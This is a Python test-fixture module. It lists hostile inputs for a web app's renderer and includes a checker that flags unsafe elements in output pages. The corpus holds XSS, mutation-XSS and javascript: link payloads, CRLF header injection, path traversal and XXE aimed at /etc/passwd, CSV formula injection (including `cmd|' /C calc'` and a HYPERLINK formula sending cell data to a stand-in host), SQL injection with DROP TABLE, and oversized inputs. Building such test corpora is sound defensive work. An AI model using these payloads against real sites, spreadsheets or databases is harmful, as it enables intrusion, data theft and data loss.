"""What a hostile person may write into any field, and what must never be found in an answer to it.

A browser that runs any of it sets `window.__ran`, opens a dialog or asks for `/ran`: see `web/test_browser_hostile.py`.
"""

from __future__ import annotations

import re

from web.html import Page

RUN = "window.__ran=1"
ELSEWHERE = "http://hostile.invalid"

_HTML = [
    ("script", f"<script>{RUN}</script>"),
    ("script in capitals", f"<ScRiPt >{RUN}</sCrIpT>"),
    ("script nested in itself", f"<scr<script>ipt>{RUN}</scr</script>ipt>"),
    ("script from elsewhere", f"<script src={ELSEWHERE}/x.js></script>"),
    ("image with a handler", f"<img src=x onerror={RUN}>"),
    ("image with slashes for blanks", f"<img/src=x/onerror={RUN}>"),
    ("image from elsewhere", f"<img src={ELSEWHERE}/x.png>"),
    ("svg with a handler", f"<svg onload={RUN}><circle r=9></svg>"),
    ("svg with a script", f"<svg><script>{RUN}</script></svg>"),
    ("svg that is animated", f'<svg><a><animate attributeName=href values="javascript:{RUN}"/><text>x</text></a></svg>'),
    ("frame", f"<iframe src='javascript:{RUN}'></iframe>"),
    ("frame with a document", f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>'),
    ("object", f"<object data='data:text/html,<script>{RUN}</script>'></object><embed src='javascript:{RUN}'>"),
    ("style", "<style>*{display:none}body{background:url(http://hostile.invalid/x)}</style>"),
    ("style of an element", '<p style="position:fixed;inset:0;z-index:9999">over all</p>'),
    ("base", f"<base href='{ELSEWHERE}/'>"),
    ("meta refresh", f"<meta http-equiv=refresh content='0;url={ELSEWHERE}'>"),
    ("link", f"<link rel=stylesheet href={ELSEWHERE}/x.css>"),
    ("form", f"<form action={ELSEWHERE}><input name=password autofocus onfocus={RUN}><button formaction='javascript:{RUN}'>"),
    ("details that open", f"<details open ontoggle={RUN}><summary>x</summary></details>"),
    ("media", f"<video><source onerror={RUN}></video><audio src=x onerror={RUN}></audio>"),
    ("a template", "<template><script>window.__ran=1</script></template><slot onslotchange=window.__ran=1>"),
    ("ends of elements", "</p></div></article></main></body></html></textarea></title></script></style></select>--></noscript>"),
    ("breaks out of an attribute", f"\" autofocus onfocus={RUN} x=\"' onmouseover='{RUN}"),
    ("breaks out of a textarea", f"</textarea><script>{RUN}</script>"),
    ("breaks out of a title", f"</title><script>{RUN}</script>"),
    ("comment and CDATA", f"<!--><script>{RUN}</script--><![CDATA[<script>{RUN}</script>]]>"),
    ("elements that do not end", "<b><i><u><table><tr><td><a href=/x><p"),
    ("mutation by noscript", f'<noscript><p title="</noscript><img src=x onerror={RUN}>">'),
    ("mutation by mathematics", f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={RUN}&gt;'>"),
    ("mutation by svg", f'<svg></p><style><a id="</style><img src=1 onerror={RUN}>">'),
    ("mutation by a form", f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>"),
    ("clobbers names", "<a id=location name=cookie><form id=document name=use-keys><input id=keys>"),
    ("htmx attributes", f'<a hx-get="{ELSEWHERE}" hx-trigger=load hx-on:load="{RUN}" data-hx-get="/account" hx-vals="js:{{a:{RUN}}}">x</a>'),
    ("entities", f"&lt;script&gt;{RUN}&lt;/script&gt; &#60;img src=x onerror={RUN}&#62; &amp;lt; &Tab; &NewLine; &#0; &#x110000;"),
    ("a template's signs", "{{ 7*7 }} {% raw %} {# #} ${7*7} #{7*7} <%= 7*7 %>"),
    ("UTF-7", "+ADw-script+AD4-window.__ran+AD0-1+ADw-/script+AD4-"),
]  # fmt: skip
_MARKDOWN = [
    ("a link that runs", f"[x](javascript:{RUN}) [y](JaVaScRiPt:{RUN}) [z](  javascript:{RUN})"),
    ("a link in entities", f"[x](&#106;avascript:{RUN}) [y](java&#x0A;script:{RUN}) [z](javascript&colon;{RUN}) [t](java\tscript:{RUN})"),
    ("a link to data", f"[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [y](vbscript:{RUN}) [z](file:///etc/passwd)"),
    ("a link with a title", f'[x](http://hostile.invalid "\\" onmouseover=\\"{RUN}") [y](<http://a b" onclick="{RUN}>)'),
    ("a reference that runs", f"[x][1] [y]\n\n[1]: javascript:{RUN}\n[y]: data:text/html,{RUN} 'title\" onclick={RUN}'"),
    ("an address by itself", f"<javascript:{RUN}> <data:text/html,x> <http://hostile.invalid/\"onclick={RUN}> <x@y.invalid?subject=a%0d%0aBcc:z>"),
    ("addresses in text", f'http://hostile.invalid/"onmouseover="{RUN}" https://a.invalid/<b>x</b> https://user:pass@x.invalid/ www.x.invalid'),
    ("an image", f'![x]({ELSEWHERE}/x.png) ![y](x" onerror="{RUN}) [![z](javascript:{RUN})](javascript:{RUN})'),
    ("HTML in Markdown", f"*a*\n<div onclick={RUN}>\n\n**b** <img src=x onerror={RUN}>\n\n</div>"),
    ("HTML in a link", f"[<img src=x onerror={RUN}>](http://x.invalid) [`</code><script>{RUN}</script>`](/x)"),
    ("code that ends", f"`</code></pre><script>{RUN}</script>`\n\n```html\"onclick={RUN}\n</code></pre><script>{RUN}</script>\n```"),
    ("a table", f"|<script>|x|\n|:-:|\"|\n|{RUN}</td></table>|" + "y|" * 500),
    ("a link without a scheme", "[x](//hostile.invalid/x) [y](\\\\hostile.invalid) [z](/account/leave) [w](#main)"),
    ("mentions", f"@ada @\"><script>{RUN}</script> @../../account @ada/../.. [@ada](javascript:{RUN})"),
    ("quotes, very deep", ">" * 5_000 + " x"),
    ("lists, very deep", "".join("  " * at + "- x\n" for at in range(200))),
    ("brackets, very deep", "[" * 20_000 + "]" * 20_000),
    ("brackets that stay open", "[a](" * 10_000),
    ("stars", "*a_" * 10_000 + "**" * 5_000),
    ("backticks", "".join("`" * at + " " for at in range(250))),
    ("angles", "<" * 20_000 + "a>" * 100),
    ("references in each other", "\n".join(f"[{at}]: <[{at + 1}]>" for at in range(2_000)) + "[0]"),
    ("ampersands", "&" * 10_000 + "amp;" * 1_000),
]  # fmt: skip
_TEX = [
    ("a link in TeX", rf"$\href{{javascript:{RUN}}}{{x^2}}$ $\url{{javascript:{RUN}}}$"),
    ("HTML in TeX", r"$\htmlId{main}{x_1} \htmlClass{skip}{x} \htmlStyle{position:fixed;inset:0}{x} \htmlData{hx-get=/account}{x}$"),
    ("mathml in TeX", rf"$x^2\html@mathml{{<script>{RUN}</script>}}{{<img src=x onerror={RUN}>}}$"),
    ("an image in TeX", rf"$\includegraphics[width=99em]{{{ELSEWHERE}/x.png}}_1$"),
    ("elements in TeX", f"$x_1<script>{RUN}</script>$ \\(</span><img src=x onerror={RUN}>\\) $$</span><svg onload={RUN}>_1$$"),
    ("a macro that grows", r"$\def\a#1{#1#1#1#1#1#1#1#1#1#1}\a{\a{\a{\a{\a{\a{\a{\a{x_1}}}}}}}}$"),
    ("a macro that calls itself", r"$\def\a{\a\a}\a_1$ $\let\b\b\b_1$ $\newcommand{\frac}{\frac}\frac_1$"),
    ("macros for all that follows", r"$\gdef\sum{\text{gone}}\global\def\frac#1#2{#2}x_1$"),
    ("a giant in TeX", r"$\rule{99999em}{99999em}_1\kern9999em\raisebox{999em}{x}\\[999em]\Huge x$"),
    ("a column in TeX", r"$$\begin{array}{" + "c" * 400 + r"}" + "x_1&" * 400 + r"\end{array}$$"),
    ("braces, very deep", "$x_1" + "{" * 900 + "}" * 900 + "$ $_" + "{" * 40_000),
    ("dollars that stay open", "$x_1 $$ \\( \\[ " * 300 + "$" * 5_000),
    ("colours in TeX", r"$\color{red}\colorbox{black}{x_1}\fcolorbox{url(http://hostile.invalid)}{red;position:fixed}{x}$"),
]  # fmt: skip
_SIGNS = [
    ("right to left", "\u202e\u2067evil txt.exe\u202e\u202b\u2067 gpj.x"),
    ("right to left, real words", "שלום עולם مرحبا بالعالم \u200f!"),
    ("zero width", "pay\u200b\u200c\u200d\ufeff\u2060pal\u00ad\u180e"),
    ("nothing to be seen", "\u200b\u2060\ufeff\u3164\u2800\U000e0041"),
    ("towers", "Z" + "\u0335\u0301\u0300\u030a\u0359\u0332" * 100 + "algo" + "\u0489" * 300),
    ("homoglyphs", "аdа ɑdɑ ａｄａ ad\u0430 ℯmmy"),
    ("one long word", "W" * 10_000),
    ("one long word of wide signs", "﷽" * 400 + "𒐫" * 400 + "⸻" * 400),
    ("many lines", "\n".join("x" for _ in range(3_000))),
    ("lines of other kinds", "a\u2028b\u2029c\x85d\x0be\x0cf\rg\r\nh"),
    ("control signs", "a\x01\x07\x08\x1b[31m\x1b]0;x\x07\x7f\x9b\x80b"),
    ("a NUL", "a\0b\0"),
    ("no characters", "\ufffe\uffff\U0001ffff\ufdd0"),
    ("private use", "\ue0000\ue001 \ue00099\ue001 \ue000\ue001"),
    ("flags and families", "👩‍👩‍👧‍👦🏳️‍🌈🇦🇶" * 200),
    ("a megabyte", "very long " * 105_000),
    ("a megabyte of one word", "x" * 1_050_000),
]  # fmt: skip
FILES = [
    ("a header", "x\r\nSet-Cookie: ran=1\r\nX-Ran: 1\r\n\r\n<script>window.__ran=1</script>"),
    ("a header in signs", "x%0d%0aX-Ran:%201 \u560d\u560aX-Ran: 1 x\nX-Ran: 1"),
    ("a way out", "../../../../etc/passwd\\..\\..\\C:\\x\" filename=x.exe; x='"),
    ("an address elsewhere", "//hostile.invalid/\\/\\hostile.invalid https:hostile.invalid"),
    ("a formula", "=HYPERLINK(\"http://hostile.invalid?\"&A1,\"x\")"),
    ("a formula behind a plus", "+cmd|' /C calc'!A0"),
    ("a formula behind an at", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("a formula behind a minus", "-2+3+cmd|' /C calc'!A0"),
    ("a formula behind a tab", "\t=1+1"),
    ("a cell that ends", "x\";\"=1+1\",\"\n=1+1,\n\"y"),
    ("XML", f"]]></title><entry><script xmlns='http://www.w3.org/1999/xhtml'>{RUN}</script></entry><![CDATA["),
    ("XML entities", '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;&lol9;</x>'),
    ("BibTeX", "}}, author = {Evil}\n}\n@misc{ran, title = {x}}\n@string{x = \"y\"} % \\input{/etc/passwd}"),
    ("RIS", "x\nER  - \n\nTY  - JOUR\nTI  - ran\nER  - \n"),
    ("JSON", '"}],"ran":1,{"x":["\\u0000\\ud800"]}'),
    ("JSON Lines", 'x\n{"id": "arXiv:9999.99999", "title": "ran"}\n'),
    ("SQL", "x'; DROP TABLE readers; -- \" OR 1=1 % _ \\"),
    ("a path of ours", "/account/leave?take_back=1#main"),
    ("formats", "%s%n%x {0} {name.__class__} %(x)s"),
]  # fmt: skip

CORPUS: list[tuple[str, str]] = [*_HTML, *_MARKDOWN, *_TEX, *_SIGNS, *FILES]
FEW = [*_HTML[::6], *_MARKDOWN[:13:4], *_TEX[::5], *_SIGNS[:13:3], *FILES]
SHORT = [(name, text) for name, text in CORPUS if len(text) < 2_000]

_OWN_FRAMES = frozenset({"script", "link", "meta"})  # what our own head has, with addresses of ours
_NEVER = frozenset(
    "style iframe frame frameset object embed applet base template slot noscript math video audio source track"
    " img image animate set foreignobject use marquee portal fencedframe".split()
)
_ADDRESSES = frozenset("href src action formaction data poster srcset background xlink:href cite".split())
_SCHEME = re.compile(r"[\x00-\x20]*([a-z][a-z\d+.\-\t\r\n]*):", re.IGNORECASE)  # as browsers read an address


def unsafe_parts(html: str) -> list[str]:
    """What stands in a page that no text of a person may bring there."""
    return [
        f"<{tag} {attributes}>"[:300]
        for tag, attributes in Page(html).elements
        if not _is_safe(tag, attributes)
    ]


def _is_safe(tag: str, attributes: dict[str, str | None]) -> bool:
    if tag in _NEVER or any(name.startswith("on") or name in ("style", "srcdoc") for name in attributes):
        return False
    if any(name.startswith(("hx-on", "data-hx", "hx-vals")) for name in attributes):
        return False
    if tag in _OWN_FRAMES or tag == "form":
        said = [attributes.get(name) for name in ("src", "href", "action") if attributes.get(name)]
        return all(address.startswith("/") and not address.startswith("//") for address in said if address)
    given = [value for name, value in attributes.items() if name in _ADDRESSES and value]
    schemes = [match[1].lower() for match in map(_SCHEME.match, given) if match]
    return all(scheme in ("http", "https", "mailto") for scheme in schemes)
